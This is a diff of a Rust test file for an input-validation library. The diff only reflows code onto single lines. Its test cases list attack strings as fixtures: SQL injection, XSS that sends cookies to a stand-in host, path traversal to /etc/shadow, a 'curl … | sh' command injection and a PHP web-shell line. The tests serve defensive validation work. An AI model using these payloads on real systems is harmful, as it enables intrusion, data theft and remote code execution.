@@ -14,47 +14,29 @@ fn validator() -> &'static InputValidator {
 }
 
 fn category(input: &str) -> Option<Category> {
-    validator()
-        .validate(input)
-        .rejection()
-        .map(|rejection| rejection.category)
+    validator().validate(input).rejection().map(|rejection| rejection.category)
 }
 
 #[test]
 fn each_category_is_recognised() {
     let cases: &[(&str, Category)] = &[
         ("bob' OR 'a'='a", Category::SqlInjection),
-        (
-            "42 UNION ALL SELECT name, pass FROM accounts",
-            Category::SqlInjection,
-        ),
+        ("42 UNION ALL SELECT name, pass FROM accounts", Category::SqlInjection),
         ("x'; DROP TABLE orders; --", Category::SqlInjection),
         ("1 AND SLEEP(7)", Category::SqlInjection),
         ("'; WAITFOR DELAY '0:0:9'--", Category::SqlInjection),
-        (
-            "<script>fetch('//evil.example/'+document.cookie)</script>",
-            Category::Xss,
-        ),
+        ("<script>fetch('//evil.example/'+document.cookie)</script>", Category::Xss),
         ("<svg/onload=confirm(7)>", Category::Xss),
         ("\" autofocus onfocus=\"prompt(1)", Category::Xss),
         ("<a href='javascript:void(open())'>x</a>", Category::Xss),
         ("../../../../etc/shadow", Category::PathTraversal),
         ("..\\..\\windows\\win.ini", Category::PathTraversal),
-        (
-            "php://filter/convert.base64-encode/resource=index",
-            Category::PathTraversal,
-        ),
+        ("php://filter/convert.base64-encode/resource=index", Category::PathTraversal),
         ("name; whoami && id", Category::CommandInjection),
-        (
-            "8.8.8.8 && curl http://evil.example/x | sh",
-            Category::CommandInjection,
-        ),
+        ("8.8.8.8 && curl http://evil.example/x | sh", Category::CommandInjection),
         ("$(whoami)", Category::CommandInjection),
         ("<?php system($_GET['c']); ?>", Category::CodeInjection),
-        (
-            "{{ config.__class__.__init__.__globals__ }}",
-            Category::CodeInjection,
-        ),
+        ("{{ config.__class__.__init__.__globals__ }}", Category::CodeInjection),
     ];
     for (input, expected) in cases {
         assert_eq!(category(input), Some(*expected), "{input}");
@@ -118,10 +100,7 @@ fn the_length_limit_comes_first_in_bytes() {
     assert_eq!(rejection.rule_id, 1);
     // Bytes, not characters: 3 bytes each.
     assert_eq!(
-        validator
-            .validate_with_limit("日本語", 8)
-            .rejection()
-            .map(|r| r.category),
+        validator.validate_with_limit("日本語", 8).rejection().map(|r| r.category),
         Some(Category::TooLong)
     );
     assert!(validator.validate_with_limit("日本語", 9).is_passed());
@@ -159,11 +138,7 @@ fn every_rule_compiles_alone_and_has_a_unique_id() {
     let mut ids = std::collections::HashSet::new();
     for rule in vana_security::BUILT_IN_RULES {
         assert!(ids.insert(rule.id), "duplicate id {}", rule.id);
-        regex::bytes::RegexBuilder::new(rule.pattern)
-            .unicode(false)
-            .case_insensitive(true)
-            .build()
-            .unwrap();
+        regex::bytes::RegexBuilder::new(rule.pattern).unicode(false).case_insensitive(true).build().unwrap();
     }
 }
 
